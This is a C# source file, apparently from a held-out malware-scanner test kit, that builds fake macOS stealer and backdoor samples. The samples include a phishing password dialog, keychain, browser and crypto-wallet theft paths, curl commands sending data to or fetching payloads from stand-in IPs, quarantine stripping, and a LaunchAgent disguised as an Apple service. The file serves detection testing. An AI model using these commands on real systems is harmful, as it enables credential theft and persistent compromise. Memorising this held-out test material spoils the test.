using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Programs for macOS with the texts of password thieves and back doors, alone and in their bundles.</summary>
public sealed class MacThieves : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var thief = new EighthUnix { Machine = 183 }.Functions("main grabKeychain grabChromium grabWallets sendLog").Imports("system", "popen", "getpwuid", "fopen", "curl_easy_perform")
            .With("osascript -e 'display dialog \"To launch the application, you need to update the system settings. Please enter your password.\" with title \"System Preferences\" with icon caution default answer \"\" giving up after 30 with hidden answer'", "dscl /Local/Default -authonly %s %s", "security 2>&1 > /dev/null find-generic-password -ga 'Chrome' | awk '{print $2}'", "/Library/Keychains/login.keychain-db", "/Library/Application Support/Google/Chrome/", "/Login Data", "/Cookies", "/Exodus/", "/atomic/Local Storage/leveldb/", "/Binance/app-store.json", "system_profiler SPHardwareDataType", "tell application \"Finder\" to duplicate files of desktop", "ditto -c -k --sequesterRsrc /tmp/out /tmp/out.zip", "http://192.0.2.66/sendlog", "POST").MachO();
        yield return ("Setup", thief);
        yield return ("CrackedApp.zip", InertFiles.Zip(("CrackedApp.app/Contents/Info.plist", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>CFBundleExecutable</key><string>run.sh</string><key>CFBundleIdentifier</key><string>com.example.cracked</string><key>LSUIElement</key><true/></dict></plist>")),
            ("CrackedApp.app/Contents/MacOS/run.sh", Utf8("#!/bin/bash\ncd \"$(dirname \"$0\")\"\nxattr -cr ../..\ncurl -sL http://198.51.100.12/m -o /tmp/.m && chmod +x /tmp/.m && nohup /tmp/.m >/dev/null 2>&1 &\nmkdir -p ~/Library/LaunchAgents; cp ../Resources/agent.plist ~/Library/LaunchAgents/com.apple.softwareupdated.plist; launchctl load -w ~/Library/LaunchAgents/com.apple.softwareupdated.plist\n./helper\n")),
            ("CrackedApp.app/Contents/MacOS/helper", thief),
            ("CrackedApp.app/Contents/Resources/agent.plist", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.apple.softwareupdated</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>/tmp/.m</string></array><key>RunAtLoad</key><true/><key>StartInterval</key><integer>600</integer></dict></plist>"))));
        yield return ("InternalPDFViewer", new EighthUnix().Functions("main loadDocument decodeBlock startAgent").Imports("posix_spawn", "dlopen", "NSCreateObjectFileImageFromMemory", "NSLinkModule", "mach_vm_allocate")
            .With("/Users/Shared/.pw", "/bin/zsh", "-c", "curl -A cur1-agent -s -o /Users/Shared/.pd https://pdf-internal.example/i; chmod +x /Users/Shared/.pd", "%PDF-1.7", "com.apple.safebrowsing.%s.plist", "Library/LaunchAgents", "_decode_%x").MachO());
        yield return ("Loader.dylib", new EighthUnix { Machine = 183, IsLibrary = true, Data = Turned(Utf8(string.Concat(Enumerable.Repeat("osascript -e 'do shell script \"cat ~/Library/Keychains/login.keychain-db\"' ; curl -F f=@- http://192.0.2.67/ ", 20))), 0x2B) }.Functions("a b c").Imports("popen", "ptrace", "sysctlbyname", "CCCrypt", "sleep").With("hw.model", "VMware", "QEMU", "machdep.cpu.brand_string", "os%script", "-%s", "hidden %s").MachO());
    }
}
